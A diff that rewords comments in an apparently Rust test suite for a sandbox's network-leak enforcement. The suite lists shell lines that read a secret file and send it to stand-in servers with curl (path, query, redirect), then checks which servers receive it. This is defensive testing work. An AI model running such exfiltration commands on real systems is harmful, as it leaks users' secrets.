@@ -1,7 +1,8 @@
-//! Ways over the network: a program that somebody below the user has decided sends what it has read of the session. It is run twice, with
-//! two secrets; a server that may be read from must see the same in both, and one that may not be reached must see nothing.
+//! Leaks over the network: a program that somebody other than the user chose sends data that it read from the session. It runs
+//! twice, with two secrets; a server that may be read must receive the same in both runs, and one that may not be reached must
+//! receive nothing.
 //!
-//! Each way is also run where labels decide nothing: one that tells the server nothing even there would prove nothing.
+//! Each way also runs without labels: one that leaks nothing even then would prove nothing.
 
 use crate::harness::Home;
 use crate::web;
@@ -21,10 +22,10 @@ use std::io::{BufReader, Write};
 use std::net::TcpListener;
 use std::sync::{Arc, Mutex};
 
-/// What the session keeps, in one run and in the other: of two lengths.
+/// The session's secret in each of the two runs; they differ in length.
 const SECRETS: [&str; 2] = ["heron", "kingfisher"];
 
-/// How a line gets hold of it, as `$S`.
+/// How a line reads it, as `$S`.
 const SOURCES: [(&str, &str); 9] = [
     ("a file's words", "S=$(cat secret.txt)"),
     ("a file's size", "S=$(wc -c < secret.txt)"),
@@ -37,7 +38,7 @@ const SOURCES: [(&str, &str); 9] = [
     ("a script that has read it", "echo \"S=$(cat secret.txt)\" > s.sh; . ./s.sh"),
 ];
 
-/// How it is told: `G` is a server that may be read from, and `E` one that may not be reached.
+/// How it is sent: `G` is a server that may be read, and `E` one that may not be reached.
 const CARRIERS: [(&str, &str); 20] = [
     ("path", "curl -s http://G/$S"),
     ("query", "curl -s -G --data-urlencode \"q=$S\" http://G/"),
@@ -64,7 +65,7 @@ const CARRIERS: [(&str, &str); 20] = [
     ("a redirect", "curl -s -L \"http://G/to?http://E/$S\""),
 ];
 
-/// A server that keeps what it is asked, and sends whoever asks for `/to?URL` there.
+/// A server that records requests, and redirects `/to?URL` to the URL.
 struct Ears {
     address: String,
     heard: Arc<Mutex<Vec<String>>>,
@@ -82,7 +83,7 @@ impl Ears {
                 let mut reader = BufReader::new(stream);
                 let head = web::read_head(&mut reader).unwrap_or_default();
                 let mut body = Vec::new();
-                // What is cut off was heard as far as it came.
+                // A truncated request is recorded as far as it arrived.
                 let _ = web::read_body(&mut reader, &head, |piece| body.extend_from_slice(piece));
                 let all = format!("{}\r\n{}", head.join("\r\n"), String::from_utf8_lossy(&body));
                 let to = all.split(' ').nth(1).and_then(|path| path.strip_prefix("/to?")).map(str::to_owned);
@@ -125,7 +126,7 @@ impl World {
         World { exec, home, runtime, good: Ears::new(), evil: Ears::new(), _dir: dir }
     }
 
-    /// What the servers hear of a line that is run with this secret in its session.
+    /// Requests that the servers receive from a line that runs with this secret in its session.
     fn hear(&self, session: &str, source: &str, secret: &str, enforcement: Enforcement) -> (Vec<String>, Vec<String>) {
         let session = SessionName::parse(session).unwrap();
         let _ = fs::remove_dir_all(self.home.work_dir(&session));
